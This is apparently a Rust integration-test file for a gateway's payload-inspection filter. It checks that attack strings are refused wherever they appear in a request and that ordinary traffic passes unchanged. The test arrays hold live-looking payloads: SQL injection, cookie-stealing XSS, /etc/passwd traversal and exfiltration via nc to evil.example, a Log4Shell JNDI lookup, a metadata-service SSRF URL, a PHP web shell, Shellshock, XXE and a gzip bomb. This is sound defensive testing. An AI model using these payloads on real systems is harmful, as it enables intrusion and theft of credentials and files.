//! Payload rules in the real Envoy: every place where an attack can stand, every way in which a body can come, and that the service
//! sees nothing of what is refused.
#![allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing, reason = "a test that cannot go on has failed")]

use std::ops::Deref;
use std::thread;
use std::time::Duration;

use portcullis_tests::client::{Call, call_h2, percent_encoded};
use portcullis_tests::files::{GZIP, PDF, PNG, ZIP};
use portcullis_tests::gateway::Gateway;
use portcullis_tests::idp::Idp;
use portcullis_tests::introspection::{Client as Caller, Introspector};
use portcullis_tests::protected::ProtectedService;
use portcullis_tests::{eventually, refusal};
use serde_json::json;

const SCRIPT: &str = "<script>alert(document.cookie)</script>";
/// How long the provider takes for its word about a caller.
const ASKED: Duration = Duration::from_millis(250);

struct World {
    api: ProtectedService,
    introspector: Introspector,
    _idp: Idp,
}

impl World {
    fn start() -> Self {
        let idp = Idp::plain(&json!({"keys": []})).unwrap();
        let introspector = Introspector::at(&idp, "/introspect", Caller::Post("gw".to_owned(), "s3cret".to_owned()));
        introspector.endpoint().set_delay(ASKED);
        introspector.activate("good", json!({"sub": "alice"}));
        let builder = Gateway::builder()
            .filter(json!({
                "version": 1,
                "providers": {"partner": {"introspection": {
                    "cluster": "idp", "path": "/introspect", "client_id": "gw",
                    "client_secret": {"inline": "s3cret"}, "client_authentication": "post",
                }}},
                "defaults": {"payload": {"max_body": "32KiB", "max_inflated": "64KiB"}},
                "rules": [
                    {"name": "held", "match": {"prefix": "/api/held"}, "require": "partner"},
                    {"name": "watched", "match": {"prefix": "/api/watched"}, "allow": "public", "payload": {"mode": "monitor"}},
                    {"name": "spoken_to", "match": {"prefix": "/api/spoken_to"}, "allow": "public", "payload": {"grpc": "head"}},
                    {"name": "start", "match": {"prefix": "/api/start"}, "allow": "public",
                     "payload": {"max_body": "1KiB", "on_over": "scan_prefix"}},
                    {"name": "except", "match": {"prefix": "/api/except"}, "allow": "public",
                     "payload": {"except": [{"parameter": "html", "families": ["xss"]}]}},
                    {"name": "all", "match": {}, "allow": "public"},
                ],
            }))
            .idp(&idp)
            .connection_manager("http_protocol_options", json!({"enable_trailers": true}))
            .connection_manager("upgrade_configs", json!([{"upgrade_type": "websocket"}]));
        Self { api: ProtectedService::start(builder), introspector, _idp: idp }
    }
}

impl Deref for World {
    type Target = ProtectedService;

    fn deref(&self) -> &ProtectedService {
        &self.api
    }
}

fn json_body(body: &str) -> Call {
    Call::new("POST", "/api").header("content-type", "application/json").body(body)
}

#[test]
fn an_attack_is_refused_wherever_it_stands() {
    let world = World::start();
    let attacks = [
        "1' UNION SELECT name, password FROM users-- ",
        SCRIPT,
        "../../../../etc/passwd",
        "; cat /etc/passwd | nc evil.example 4444",
        "${jndi:ldap://evil.example/a}",
        "http://169.254.169.254/latest/meta-data/iam/",
        "{{7*7}}{{config.__class__.__init__.__globals__}}",
        "<?php system($_GET['c']); ?>",
    ];
    for attack in attacks {
        world.refuses_attack(&Call::get(&format!("/api?q={}", percent_encoded(attack))));
        let form = Call::new("POST", "/api").header("content-type", "application/x-www-form-urlencoded");
        world.refuses_attack(&form.body(format!("a=1&q={}", percent_encoded(attack))));
        world.refuses_attack(&json_body(&json!({"id": 7, "deep": [{"q": attack}]}).to_string()));
        let part = format!("--b\r\ncontent-disposition: form-data; name=\"q\"\r\n\r\n{attack}\r\n--b--\r\n");
        let multipart = Call::new("POST", "/api").header("content-type", "multipart/form-data; boundary=b").body(part);
        world.refuses_attack(&multipart);
        world.refuses_attack(&Call::get("/api").header("x-custom", attack));
    }
    world.refuses_attack(&Call::get("/api").header("cookie", "id=1' union select password from users--"));
    world.refuses_attack(&Call::get("/api").header("user-agent", "() { :; }; /bin/bash -c id"));
    let entity = "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>";
    world.refuses_attack(&Call::new("POST", "/api").header("content-type", "text/xml").body(entity));
    world.gateway.check_unharmed().unwrap();
}

#[test]
fn no_part_hides_behind_a_file() {
    let world = World::start();
    let pad = "x".repeat(520);
    let send = |kind: &str, head: &str, content: &str| {
        let body = format!(
            "--good\r\ncontent-disposition: form-data; {head}\r\ncontent-type: image/png\r\n\r\n{pad}\r\n{content}\r\n--good--\r\n"
        );
        Call::new("POST", "/api").header("content-type", &format!("multipart/form-data; {kind}")).body(body)
    };
    let good = "boundary=good";
    // Every reader takes this for a file, of which nobody asks what it says.
    assert_eq!(world.call(&send(good, "name=\"q\"; filename=\"x.png\"", SCRIPT)).status, 200);
    for head in [
        "name=\"q\"; filename=\"x.png\"; filename=\"\"",
        "name=\"q\"; x=a\"; filename=z.png; y=b\"",
        "name=\"q\"; x'=1; filename=\"a.png\"; y'=2",
        "name=\"q\"\r\ncontent-disposition: form-data; name=\"q\"; filename=\"x.png\"",
        "name=\"q\"; filename=\"x.png\"\r\ncontent-disposition: form-data; name=\"q\"",
    ] {
        world.refuses_attack(&send(good, head, SCRIPT));
    }
    let evil = format!("--evil\r\ncontent-disposition: form-data; name=\"q\"\r\n\r\n{SCRIPT}\r\n--evil--");
    let file = "name=\"q\"; filename=\"x.png\"";
    assert_eq!(world.call(&send(good, file, &evil)).status, 200);
    for kind in ["xboundary=evil; boundary=good", "x=boundary=evil; boundary=good"] {
        world.refuses_attack(&send(kind, file, &evil));
    }
    for charset in ["charset*=utf-7", "charset =utf-7", "charset=utf-7"] {
        world.refuses_attack(&send(&format!("boundary=good; {charset}"), file, "+ADw-script+AD4-alert(1)"));
    }
    world.gateway.check_unharmed().unwrap();
}

#[test]
fn ordinary_requests_arrive_whole() {
    let world = World::start();
    let text = json!({"text": "Don't drop the table; use ORDER BY -- it's faster & <b>bold</b>", "n": [1, 2.5, null]});
    let body = text.to_string();
    let answer = world.call(&json_body(&body));
    assert_eq!(answer.status, 200, "{}", answer.text());
    assert_eq!(world.service.requests().last().unwrap().body, body.as_bytes());
    let long = format!("{{\"pad\": \"{}\"}}", "lorem ipsum ".repeat(2000));
    assert_eq!(world.call(&json_body(&long)).status, 200);
    assert_eq!(world.service.requests().last().unwrap().body.len(), long.len());
    assert_eq!(world.call(&Call::get("/api?q=O%27Brien%20%26%20Sons&page=2")).status, 200);
    assert_eq!(world.call(&Call::new("POST", "/api").body("")).status, 200);
    world.gateway.check_unharmed().unwrap();
}

#[test]
fn however_a_body_is_cut_it_is_judged_whole() {
    let world = World::start();
    let body = json!({"id": 7, "q": SCRIPT}).to_string();
    let before = world.seen();
    for at in 1..body.len() {
        let (first, second) = body.as_bytes().split_at(at);
        let call = Call::new("POST", "/api").header("content-type", "application/json");
        let response = world.call_in_chunks(call, [first, second], b"0\r\n\r\n");
        refusal::check(&response, 403, "payload_attack").unwrap_or_else(|error| panic!("cut at {at}: {error}"));
    }
    let call = || Call::new("POST", "/api").header("content-type", "application/json");
    let response = world.call_in_chunks(call(), body.as_bytes().chunks(1), b"0\r\n\r\n");
    refusal::check(&response, 403, "payload_attack").unwrap();
    let response = world.call_in_chunks(call(), [body.as_bytes()], b"0\r\nx-checksum: 1\r\n\r\n");
    refusal::check(&response, 403, "payload_attack").unwrap();
    assert_eq!(world.seen(), before, "no head went ahead of its body");
    let good = json!({"id": 7, "q": "fine"}).to_string();
    assert_eq!(world.call_in_chunks(call(), good.as_bytes().chunks(3), b"0\r\nx-checksum: 1\r\n\r\n").status, 200);
    assert_eq!(world.service.requests().last().unwrap().body, good.as_bytes());
    world.gateway.check_unharmed().unwrap();
}

#[test]
fn over_http_2_too() {
    let world = World::start();
    let send = |call: &Call| call_h2(world.gateway.port(), None, call).unwrap();
    let before = world.seen();
    refusal::check(&send(&json_body(&json!({"q": SCRIPT}).to_string())), 403, "payload_attack").unwrap();
    refusal::check(&send(&Call::get(&format!("/api?q={}", percent_encoded(SCRIPT)))), 403, "payload_attack").unwrap();
    assert_eq!(world.seen(), before);
    assert_eq!(send(&json_body("{\"q\": 1}")).status, 200);
    world.gateway.check_unharmed().unwrap();
}

#[test]
fn a_request_that_is_held_for_its_caller_is_judged_after_it() {
    let world = World::start();
    let call = |token: &str, body: &str| {
        let call = Call::new("POST", "/api/held").bearer(token).header("content-type", "application/json");
        call.body(body)
    };
    for number in 0..4 {
        let token = format!("good-{number}");
        world.introspector.activate(&token, json!({"sub": "alice"}));
        // The body comes before the provider's word.
        world.refuses_attack(&call(&token, &json!({"q": SCRIPT}).to_string()));
    }
    // And after it.
    world.introspector.activate("late", json!({"sub": "alice"}));
    let bytes = call("late", &json!({"q": SCRIPT}).to_string()).to_bytes();
    let (first, second) = bytes.split_at(bytes.len() - 20);
    let before = world.seen();
    let mut client = world.connect();
    client.send(first).unwrap();
    thread::sleep(ASKED * 2);
    refusal::check(&client.raw(second).unwrap(), 403, "payload_attack").unwrap();
    assert_eq!(world.seen(), before);
    refusal::check(&world.call(&call("unknown", "{}")), 401, "token_inactive").unwrap();
    world.introspector.activate("fine", json!({"sub": "alice"}));
    assert_eq!(world.call(&call("fine", "{\"q\": 1}")).status, 200);
    assert_eq!(world.service.requests().last().unwrap().body, &b"{\"q\": 1}"[..]);
    world.gateway.check_unharmed().unwrap();
}

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut body = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3];
    body.extend(miniz_oxide::deflate::compress_to_vec(data, 6));
    // Nobody checks the checksum before the service does.
    body.extend([0; 8]);
    body
}

#[test]
fn a_compressed_body_is_judged_by_what_it_holds() {
    let world = World::start();
    let call = |coding: &str, body: Vec<u8>| {
        let call = Call::new("POST", "/api").header("content-type", "application/json");
        call.header("content-encoding", coding).body(body)
    };
    let attack = json!({"q": SCRIPT}).to_string();
    world.refuses_attack(&call("gzip", gzip(attack.as_bytes())));
    let deflated = miniz_oxide::deflate::compress_to_vec_zlib(attack.as_bytes(), 6);
    world.refuses_attack(&call("deflate", deflated));
    refusal::check(&world.call(&call("br", b"x".to_vec())), 415, "body_encoding_refused").unwrap();
    refusal::check(&world.call(&call("gzip", b"plain".to_vec())), 400, "body_malformed").unwrap();
    let bomb = gzip(&vec![b' '; 8 << 20]);
    assert!(bomb.len() < 32 << 10);
    refusal::check(&world.call(&call("gzip", bomb)), 413, "body_too_large").unwrap();
    let good = gzip(b"{\"q\": 1}");
    assert_eq!(world.call(&call("gzip", good.clone())).status, 200);
    assert_eq!(world.service.requests().last().unwrap().body, good, "the service gets it as it was sent");
    world.gateway.check_unharmed().unwrap();
}

#[test]
fn a_body_that_is_too_long_is_refused_or_judged_by_its_beginning() {
    let world = World::start();
    let long = format!("{{\"pad\": \"{}\"}}", "x".repeat(40_000));
    refusal::check(&world.call(&json_body(&long)), 413, "body_too_large").unwrap();
    let call = || Call::new("POST", "/api").header("content-type", "application/json");
    refusal::check(&world.call_in_chunks(call(), long.as_bytes().chunks(8192), b"0\r\n\r\n"), 413, "body_too_large")
        .unwrap();
    let start = |body: &str| {
        let call = Call::new("POST", "/api/start").header("content-type", "application/json").body(body);
        world.call(&call)
    };
    assert_eq!(start(&long).status, 200);
    assert_eq!(world.service.requests().last().unwrap().body.len(), long.len(), "what is not read goes on whole");
    refusal::check(&start(&format!("{{\"q\": \"{SCRIPT}\", \"pad\": \"{long:?}\"}}")), 403, "payload_attack").unwrap();
    world.gateway.check_unharmed().unwrap();
}

#[test]
fn in_monitor_mode_everything_passes_and_the_log_has_the_exception() {
    let world = World::start();
    let call = Call::new("POST", "/api/watched").header("content-type", "application/json");
    let response = world.call(&call.body(json!({"html": SCRIPT}).to_string()));
    assert_eq!(response.status, 200);
    let event = world.audit_of(&response);
    assert_eq!(
        (&event["event.action"], &event["event.reason"]),
        (&json!("request_monitored"), &json!("payload_attack"))
    );
    let message = event["message"].as_str().unwrap();
    assert!(message.contains("except: [{place: json, parameter: html, families: [xss]}]"), "{message}");
    let finding = &event["portcullis.payload"][0];
    assert_eq!(
        (&finding["family"], &finding["place"], &finding["parameter"]),
        (&json!("xss"), &json!("json"), &json!("html"))
    );
    assert_eq!(finding["exception"], json!({"except": [{"place": "json", "parameter": "html", "families": ["xss"]}]}));
    assert!(!message.contains("document.cookie"), "{message}");
    let watched = || world.gateway.counter("portcullis_payload", &[("rule", "watched")]).unwrap();
    assert!(eventually(Duration::from_secs(5), || watched() > 0));
    // With that exception, it passes where it is refused otherwise.
    let except = Call::new("POST", "/api/except").header("content-type", "application/json");
    assert_eq!(world.call(&except.body(json!({"html": SCRIPT}).to_string())).status, 200);
    let other = Call::new("POST", "/api/except").header("content-type", "application/json");
    world.refuses_attack(&other.body(json!({"other": SCRIPT}).to_string()));
}

#[test]
fn streams_are_not_waited_for() {
    let world = World::start();
    // The service answers the head of a gRPC call whose body never ends.
    let mut client = world.connect();
    let call =
        Call::new("POST", "/api").header("content-type", "application/grpc").header("transfer-encoding", "chunked");
    client.send(&call.to_bytes()).unwrap();
    client.send(b"5\r\n\0\0\0\0\0\r\n").unwrap();
    assert!(eventually(Duration::from_secs(5), || world.gateway.stat("cluster.api.upstream_rq_total").unwrap() == 1));
    // So it is with a WebSocket: what comes behind its head is not judged, nor waited for.
    let upgrade = |call: Call| call.header("connection", "upgrade").header("upgrade", "websocket");
    let mut client = world.connect();
    client.send(&upgrade(Call::get("/api/socket")).to_bytes()).unwrap();
    let seen = || world.gateway.stat("cluster.api.upstream_rq_total").unwrap();
    assert!(eventually(Duration::from_secs(5), || seen() == 2));
    let attack = upgrade(Call::get(&format!("/api/socket?q={}", percent_encoded(SCRIPT))));
    refusal::check(&world.call(&attack), 403, "payload_attack").unwrap();
    // The words of a stream before something that ends do not keep it from being judged.
    let form = || {
        let form = Call::new("POST", "/api").header("content-type", "application/x-www-form-urlencoded");
        form.body(format!("q={}", percent_encoded(SCRIPT)))
    };
    let before = seen();
    for disguised in [
        form().header("upgrade", "websocket"),
        upgrade(form()),
        Call::new("POST", "/api").header("content-type", "application/grpc-web-text").body(SCRIPT),
        Call::new("POST", "/api")
            .header("content-type", "application/grpc-web+json")
            .body(format!("{{\"q\": \"{SCRIPT}\"}}")),
    ] {
        let status = world.call(&disguised).status;
        assert!([400, 403].contains(&status), "{status}: {disguised:?}");
        assert_eq!(seen(), before, "the service saw {disguised:?}");
    }
    // A client that leaves in the middle of a body that is waited for leaves nothing behind.
    let mut client = world.connect();
    client.send(&json_body("{}").header("transfer-encoding", "chunked").to_bytes()).unwrap();
    drop(client);
    assert_eq!(world.call(&json_body("{}")).status, 200);
    world.gateway.check_unharmed().unwrap();
}

/// A text field, and a file that says what it is, or does not.
fn upload(path: &str, note: &str, kind: &str, file: &[u8]) -> Call {
    let kind = if kind.is_empty() { String::new() } else { format!("content-type: {kind}\r\n") };
    let start = format!(
        "--b\r\ncontent-disposition: form-data; name=\"note\"\r\n\r\n{note}\r\n\
         --b\r\ncontent-disposition: form-data; name=\"f\"; filename=\"O'Brien.bin\"\r\n{kind}\r\n"
    );
    let body = [start.as_bytes(), file, b"\r\n--b--\r\n"].concat();
    Call::new("POST", path).header("content-type", "multipart/form-data; boundary=b").body(body)
}

#[test]
fn files_arrive_and_attacks_beside_and_in_them_do_not() {
    let world = World::start();
    let raw = |path: &str, kind: &str, body: &[u8]| Call::new("PUT", path).header("content-type", kind).body(body);
    for (kind, file) in [
        ("image/png", PNG),
        ("application/pdf", PDF),
        ("application/gzip", GZIP),
        ("application/octet-stream", ZIP),
        ("application/vnd.openxmlformats-officedocument.wordprocessingml.document", ZIP),
    ] {
        let polyglot = [file, b"<?php system($_GET['c']); ?>"].concat();
        let form = [file, b"&q=1' union select password from users-- "].concat();
        // In full, and where only the beginning is judged.
        let long = [file, &[0x90; 1500]].concat();
        for path in ["/api", "/api/start"] {
            world.passes(&raw(path, kind, file));
            assert_eq!(world.service.requests().last().unwrap().body, file);
            world.passes(&upload(path, "it's fine", kind, file));
            world.passes(&upload(path, "it's fine", "", file));
            world.passes(&raw(path, kind, &long));
            world.refuses_attack(&upload(path, SCRIPT, kind, file));
            world.refuses_attack(&raw(path, kind, &polyglot));
            world.refuses_attack(&raw(path, kind, &form));
            world.refuses_attack(&upload(path, "1", kind, &polyglot));
            world.refuses_attack(&upload(path, "1", "", &polyglot));
        }
        world.refuses_attack(&raw("/api", "application/x-www-form-urlencoded", &[file, b"\0"].concat()));
    }
    for disguised in [&b"{\"\xff\": 1, \"q\": \"<script>alert(1)</script>\"}"[..], b"\0q=<script>alert(1)</script>"] {
        world.refuses_attack(&raw("/api", "image/png", disguised));
    }
    let h2 = call_h2(world.gateway.port(), None, &raw("/api", "image/png", PNG)).unwrap();
    assert_eq!((h2.status, &world.service.requests().last().unwrap().body[..]), (200, PNG));
    world.gateway.check_unharmed().unwrap();
}

#[test]
fn calls_of_grpc_web_are_read() {
    let world = World::start();
    for kind in ["application/grpc-web", "application/grpc-web+proto"] {
        let call = |body: Vec<u8>| Call::new("POST", "/api/Find").header("content-type", kind).body(body);
        world.passes(&call(message("O'Brien & Sons")));
        world.refuses_attack(&call(message(SCRIPT)));
        world.refuses_attack(&call([message("tea"), message(SCRIPT)].concat()));
    }
    let call =
        |body: &[u8]| Call::new("POST", "/api/write").header("content-type", "application/x-protobuf").body(body);
    world.passes(&call(&message("tea")[5..]));
    world.refuses_attack(&call(&message(SCRIPT)[5..]));
    world.gateway.check_unharmed().unwrap();
}

#[test]
fn a_wrong_coding_opens_nothing_where_a_beginning_is_enough() {
    let world = World::start();
    for path in ["/api", "/api/start"] {
        for coding in ["gzip", "deflate"] {
            let form = Call::new("POST", path).header("content-type", "application/x-www-form-urlencoded");
            let call = form.header("content-encoding", coding).body("q=1' union select password from users-- ");
            world.refuses(&call, 400, "body_malformed");
        }
    }
    world.gateway.check_unharmed().unwrap();
}

/// A message of gRPC with one text in it.
fn message(text: &str) -> Vec<u8> {
    let length = u8::try_from(text.len()).unwrap();
    [&[0, 0, 0, 0, length + 2, 0x0a, length], text.as_bytes()].concat()
}

fn grpc_call(path: &str) -> Call {
    Call::new("POST", path).header("content-type", "application/grpc").header("te", "trailers")
}

#[test]
fn the_first_message_of_a_grpc_call_is_judged_before_its_head_goes_on() {
    let world = World::start();
    let seen = || world.gateway.stat("cluster.api.upstream_rq_total").unwrap();
    // A stream that stays open: its first message comes in pieces, cut wherever it may be.
    let attack = message("1' or '1'='1");
    for at in 1..attack.len() {
        let mut client = world.connect();
        client.send(&grpc_call("/api").header("transfer-encoding", "chunked").to_bytes()).unwrap();
        let (first, second) = attack.split_at(at);
        client.send(&chunk(first)).unwrap();
        let response = client.raw(&chunk(second)).unwrap();
        assert_eq!((response.status, response.header("grpc-status")), (200, Some("7")), "cut at {at}");
        assert_eq!(seen(), 0, "cut at {at}: the service saw it");
    }
    let call = |body: &[u8], path: &str| world.call_in_chunks(grpc_call(path), [body], b"0\r\n\r\n");
    assert_eq!(call(&attack, "/api").header("grpc-status"), Some("7"));
    // An honest one goes on at once, and what follows it as it comes.
    let mut client = world.connect();
    client.send(&grpc_call("/api").header("transfer-encoding", "chunked").to_bytes()).unwrap();
    client.send(&chunk(&message("O'Brien & Sons"))).unwrap();
    assert!(eventually(Duration::from_secs(5), || seen() == 1), "it waits for the end of the stream");
    let response = client.raw(&[chunk(&attack), b"0\r\n\r\n".to_vec()].concat()).unwrap();
    assert_eq!(response.status, 200);
    assert_eq!(world.service.requests().last().unwrap().body, [message("O'Brien & Sons"), attack.clone()].concat());
    // Watched, and where the service speaks first.
    let watched = call(&attack, "/api/watched");
    assert_eq!((watched.status, watched.header("grpc-status")), (200, None));
    let event = world.audit_of(&watched);
    assert_eq!(event["event.action"], json!("request_monitored"), "{event}");
    let before = seen();
    let mut client = world.connect();
    client.send(&grpc_call("/api/spoken_to").header("transfer-encoding", "chunked").to_bytes()).unwrap();
    assert!(eventually(Duration::from_secs(5), || seen() == before + 1), "it waits for a message");
    world.gateway.check_unharmed().unwrap();
}

#[test]
fn a_grpc_call_that_is_held_for_its_caller_is_judged_with_what_came_meanwhile() {
    let world = World::start();
    let open = |token: &str, text: &str| {
        let mut client = world.connect();
        let head = grpc_call("/api/held").bearer(token).header("transfer-encoding", "chunked").to_bytes();
        client.send(&[head, chunk(&message(text))].concat()).unwrap();
        client
    };
    world.introspector.activate("one", json!({"sub": "alice"}));
    let response = open("one", "1' or '1'='1").raw(b"").unwrap();
    assert_eq!(response.header("grpc-status"), Some("7"));
    assert_eq!(world.gateway.stat("cluster.api.upstream_rq_total").unwrap(), 0);
    world.introspector.activate("two", json!({"sub": "alice"}));
    let client = open("two", "tea");
    let seen = || world.gateway.stat("cluster.api.upstream_rq_total").unwrap();
    assert!(eventually(Duration::from_secs(5), || seen() == 1), "it waits for the end of the stream");
    drop(client);
    world.gateway.check_unharmed().unwrap();
}

fn chunk(bytes: &[u8]) -> Vec<u8> {
    [format!("{:x}\r\n", bytes.len()).as_bytes(), bytes, b"\r\n"].concat()
}

#[test]
fn trailers_are_judged_with_the_body_that_they_end() {
    let world = World::start();
    let attack = "${jndi:ldap://evil.example/a}";
    let call = |path: &str| Call::new("POST", path).header("content-type", "application/json");
    let ended = |call: Call, body: &[&[u8]], trailers: &str| {
        world.call_in_chunks(call, body.iter().copied(), format!("0\r\n{trailers}\r\n").as_bytes())
    };
    let before = world.seen();
    // Behind a body, and behind none.
    for body in [&[&b"{\"q\": 1}"[..]][..], &[]] {
        let response = ended(call("/api"), body, &format!("x-note: {attack}\r\n"));
        refusal::check(&response, 403, "payload_attack").unwrap();
        let event = world.audit_of(&response);
        assert!(event["message"].as_str().unwrap().contains("lookup-jndi in header \"x-note\""), "{event}");
    }
    let response =
        ended(call("/api"), &[b"{\"q\": 1}"], &format!("x-checksum: 1\r\nreferer: http://a/?q={attack}\r\n"));
    refusal::check(&response, 403, "payload_attack").unwrap();
    // Of a request that is held for its caller, whose body and trailers come before the provider's word, and after it.
    for (token, pause) in [("trailers-1", Duration::ZERO), ("trailers-2", ASKED * 2)] {
        world.introspector.activate(token, json!({"sub": "alice"}));
        let held = call("/api/held").bearer(token).header("transfer-encoding", "chunked");
        let mut client = world.connect();
        client.send(&held.to_bytes()).unwrap();
        thread::sleep(pause);
        let response = client.raw(format!("2\r\n{{}}\r\n0\r\nx-note: {attack}\r\n\r\n").as_bytes()).unwrap();
        refusal::check(&response, 403, "payload_attack").unwrap();
    }
    assert_eq!(world.seen(), before, "no head went ahead of its trailers");
    // Watched, and what is no attack.
    let watched = ended(call("/api/watched"), &[b"{}"], &format!("x-note: {attack}\r\n"));
    assert_eq!(watched.status, 200);
    assert_eq!(world.audit_of(&watched)["event.action"], json!("request_monitored"));
    for trailers in ["x-checksum: 1\r\n", "server-timing: db;dur=53\r\nx-note: it's 5 < 7\r\n"] {
        let response = ended(call("/api"), &[b"{\"q\"", b": 1}"], trailers);
        assert_eq!(response.status, 200, "{trailers}: {}", response.text());
        assert_eq!(world.service.requests().last().unwrap().body, &b"{\"q\": 1}"[..]);
    }
    world.introspector.activate("trailers-3", json!({"sub": "alice"}));
    assert_eq!(ended(call("/api/held").bearer("trailers-3"), &[b"{}"], "x-checksum: 1\r\n").status, 200);
    world.gateway.check_unharmed().unwrap();
}
